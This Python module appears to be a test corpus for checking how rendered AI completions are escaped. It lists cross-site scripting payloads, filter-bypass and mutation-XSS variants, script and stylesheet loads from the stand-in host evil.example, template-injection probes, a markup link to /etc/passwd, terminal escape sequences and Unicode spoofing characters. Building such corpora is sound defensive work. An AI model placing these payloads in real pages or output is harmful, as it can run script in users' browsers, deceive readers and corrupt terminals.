"""What a completion may hold at worst: markup that runs, breaks out or deceives, by the place that it is made for."""

from __future__ import annotations

import itertools
from typing import Final

MARK: Final = "window.OWNED=1"
"""What every script of these would do."""

_TAGS: Final = (
    "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>", '<img src="x" onerror="{}">', "<img src=x onerror\n=\n{}>", "<svg onload={}>",
    "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>", "<iframe src='javascript:{}'></iframe>", '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>", "<object data='javascript:{}'>", "<embed src='javascript:{}'>",
    "<a href='javascript:{}' id=click>x</a>", "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<form action='javascript:{}'><button id=click>x</button></form>", "<button formaction='javascript:{}'>x</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>", "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';body{{display:none}}</style>", "<div style='background:url(javascript:{})'>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<xmp><img src=x onerror={}></xmp>", "<plaintext>", "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><script>{}</script>", "<dialog open><script>{}</script></dialog>",
    "<portal src='javascript:{}'>", "<isindex action=javascript:{} type=image>", "<keygen autofocus onfocus={}>",
)  # fmt: skip
_BREAKS: Final = (
    "{}", "'>{}", '">{}', "</pre>{}", "</span></pre></article></main>{}", "</title>{}", "</textarea>{}", "</style>{}",
    "</script>{}", "-->{}", "]]>{}", "\x00{}", "{}\x00",
)  # fmt: skip
_OTHERS: Final = (
    "javascript:{}", "{{{{ 7 * 7 }}}}", "{{% raw %}}", "${{7*7}}", "#{{7*7}}", "<%= 7 * 7 %>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{}", "＜script＞{}＜/script＞", "' onmouseover='{}", '" autofocus onfocus="{}', "` onclick=`{}",
    "';{};//", '";{};//', "*/{}/*", "<b onmouseover={}>", "\u2028{}\u2029",
    "[bold red]loud[/] [link=file:///etc/passwd]x[/link]",
    "\x1b[31mred\x1b[0m", "\x1b]0;OWNED\x07",
    "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x9b31m", "\x1b[2J\x1b[H",
    "\r\x1b[Khidden", "\u202egnol\u202c", "\u2066isolate", "\ufeffmark",
    "Z\u0351\u036b\u0343\u036a\u0342\u036bA\u030d\u0301\u0302" * 8,
    "\U000e0041\U000e0042", "\u200b\u200c\u200d", "שלום עולם", "مرحبا", "\x08\x08\x08over",
    "\x7f", "\ud7ff\ue000", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "\u0085next",
)  # fmt: skip


def corpus() -> list[str]:
    """More than a hundred texts, each another."""
    tags = [tag.format(MARK) for tag in _TAGS]
    broken = [_BREAKS[i % len(_BREAKS)].format(tag) for i, tag in enumerate(itertools.chain(tags, tags[:20]))]
    return list(dict.fromkeys([*tags, *broken, *(other.format(MARK) for other in _OTHERS)]))
